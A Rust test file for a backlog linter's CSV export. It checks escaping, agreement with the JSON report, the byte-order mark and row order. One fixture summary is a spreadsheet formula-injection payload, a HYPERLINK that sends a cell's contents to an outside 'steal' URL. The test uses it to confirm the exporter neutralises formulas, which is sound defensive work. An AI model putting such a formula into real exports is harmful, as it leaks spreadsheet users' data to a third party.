//! `--format csv`: the rows for a fixture whose summaries hold commas, quotes, line breaks,
//! non-ASCII text and a formula; read back with the `csv` crate, they hold every finding of
//! the JSON report; the byte-order mark, `--output csv=FILE` and the row order end to end.

use std::process::{Command, Output};

use backlint::ingest::{self, ReadOptions};
use backlint::report::csv::{self as csv_report, COLUMNS, EXCERPT_CHARS, FORMULA_STARTS};
use backlint::report::html::IssueLinks;
use backlint::report::Report;
use backlint::rules::kinds::excerpt;
use serde_json::Value;

const FIXTURE: &str = "fixtures/spreadsheet-hostile.csv";
const BOM: &str = "\u{feff}";

fn backlint(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_backlint"))
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .env("NO_COLOR", "1")
        .env("COLUMNS", "100")
        .output()
        .expect("the binary runs")
}

fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).expect("the report is UTF-8")
}

/// Runs `backlint check ARGS --output csv=FILE FIXTURE`; returns the run and the CSV.
fn check_with_csv_beside(name: &str, args: &[&str]) -> (Output, String) {
    let dir = std::env::temp_dir().join(format!("backlint-csv-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("the temporary folder is made");
    let csv_path = dir.join("findings.csv");
    let output = format!("csv={}", csv_path.display());
    let run = backlint(&[&["check"], args, &["--output", &output, FIXTURE]].concat());
    let csv = std::fs::read_to_string(&csv_path).expect("the CSV report is written");
    std::fs::remove_dir_all(&dir).ok();
    (run, csv)
}

/// The CSV of the fixture as `backlint check --format csv` writes it with keys linked.
fn fixture_csv(bom: bool) -> String {
    let backlog =
        ingest::read_paths(&[FIXTURE.into()], &ReadOptions::default()).expect("the fixture reads");
    let (rules, outcome) = backlint::check_with_defaults(&backlog, jiff::civil::date(2026, 3, 1))
        .expect("the engine runs");
    let report = Report::of(&backlog, &rules, &outcome);
    let links = IssueLinks::configured(Some("https://ledger.example.atlassian.net/browse/{key}"));
    csv_report::render(&report, csv_report::Options { bom, links })
}

/// The records of a CSV report, header first.
fn records(csv: &str) -> Vec<Vec<String>> {
    let text = csv.strip_prefix(BOM).unwrap_or(csv);
    ::csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|record| {
            let record = record.expect("the report is valid CSV");
            record.iter().map(str::to_owned).collect()
        })
        .collect()
}

#[test]
fn csv_snapshot() {
    let csv = fixture_csv(false);
    assert!(csv.contains("\r\n"), "rows end with CRLF as RFC 4180 says");
    insta::assert_snapshot!(csv);
}

#[test]
fn every_cell_survives_commas_quotes_line_breaks_and_non_ascii() {
    let rows = records(&fixture_csv(true));
    assert_eq!(rows[0], COLUMNS);
    let summary = |key: &str| {
        rows.iter()
            .find(|row| row[0] == key)
            .map(|row| row[1].as_str())
            .expect("the key has a row")
    };
    assert_eq!(
        summary("LED-31"),
        "As an accountant, I want to export invoices, credit notes and receipts, so that I can close the month"
    );
    assert_eq!(
        summary("LED-32"),
        "As a clerk I want the \"Paid\" badge on settled invoices"
    );
    assert_eq!(
        summary("LED-33"),
        "As a bookkeeper I want to see overdue invoices\nso that I can chase them"
    );
    assert_eq!(
        summary("LED-34"),
        "As a Kassenwartin I want to see payments in € and ¥ quickly — größer als 10.000 €"
    );
    assert_eq!(
        summary("LED-35"),
        "'=HYPERLINK(\"https://example.com/steal?d=\"&A1,\"Open invoice\")"
    );
    assert!(rows.iter().all(|row| row.len() == COLUMNS.len()));
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(FORMULA_STARTS),
            "a spreadsheet would run {cell:?}"
        );
    }
}

/// The value of a JSON finding's field as text, `""` for null.
fn text_of(finding: &Value, name: &str) -> String {
    match &finding[name] {
        Value::Null => String::new(),
        Value::String(text) => text.clone(),
        other => other.to_string(),
    }
}

/// What a cell holds once its formula guard is taken off.
fn unguarded(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

#[test]
fn the_csv_holds_every_finding_of_the_json_report_field_for_field() {
    let (output, csv) = check_with_csv_beside(
        "json",
        &[
            "--format",
            "json",
            "--today",
            "2026-03-01",
            "--sort",
            "export",
        ],
    );
    assert_eq!(output.status.code(), Some(1), "warnings fail: {output:?}");
    let json: Value = serde_json::from_slice(&output.stdout).expect("the JSON report parses");
    let rows = records(&csv);
    let findings = json["findings"].as_array().expect("findings");
    assert!(findings.len() > 10, "the fixture has findings to compare");
    assert_eq!(rows.len() - 1, findings.len(), "one row per finding");
    let column = |name: &str| COLUMNS.iter().position(|c| *c == name).expect("a column");
    for (row, finding) in rows[1..].iter().zip(findings) {
        for name in [
            "key", "summary", "rule", "severity", "message", "field", "file", "line", "column",
            "help", "docs_url",
        ] {
            assert_eq!(
                unguarded(&row[column(name)]),
                text_of(finding, name),
                "{name} of {finding}"
            );
        }
        assert_eq!(
            unguarded(&row[column("excerpt")]),
            excerpt(&text_of(finding, "text"), EXCERPT_CHARS),
            "excerpt of {finding}"
        );
    }
}

#[test]
fn a_byte_order_mark_starts_the_report_unless_turned_off() {
    let with = backlint(&["check", "--format", "csv", FIXTURE]);
    assert_eq!(with.status.code(), Some(1), "warnings fail: {with:?}");
    assert!(stdout(&with).starts_with(&format!("{BOM}\"key\",\"summary\",")));
    let explicit = backlint(&["check", "--format", "csv", "--csv-bom", FIXTURE]);
    assert_eq!(stdout(&explicit), stdout(&with));
    let without = backlint(&["check", "--format", "csv", "--csv-bom=false", FIXTURE]);
    assert!(stdout(&without).starts_with("\"key\",\"summary\","));
    assert_eq!(format!("{BOM}{}", stdout(&without)), stdout(&with));
}

#[test]
fn csv_beside_the_human_report_in_the_same_item_order() {
    let (output, csv) = check_with_csv_beside("beside", &[]);
    assert_eq!(output.status.code(), Some(1), "warnings fail: {output:?}");
    let human_order: Vec<String> = stdout(&output)
        .lines()
        .filter_map(|line| line.strip_prefix("── "))
        .filter_map(|heading| heading.split(" · ").next())
        .map(str::to_owned)
        .collect();
    let mut csv_order: Vec<String> = records(&csv)[1..]
        .iter()
        .map(|row| row[0].clone())
        .collect();
    csv_order.dedup();
    assert_eq!(human_order.len(), 5, "{}", stdout(&output));
    assert_eq!(csv_order, human_order);
}

#[test]
fn help_documents_the_format_and_the_byte_order_mark() {
    let help = stdout(&backlint(&["check", "--help"]));
    assert!(help.contains("- csv:"), "{help}");
    assert!(help.contains("--csv-bom"), "{help}");
}
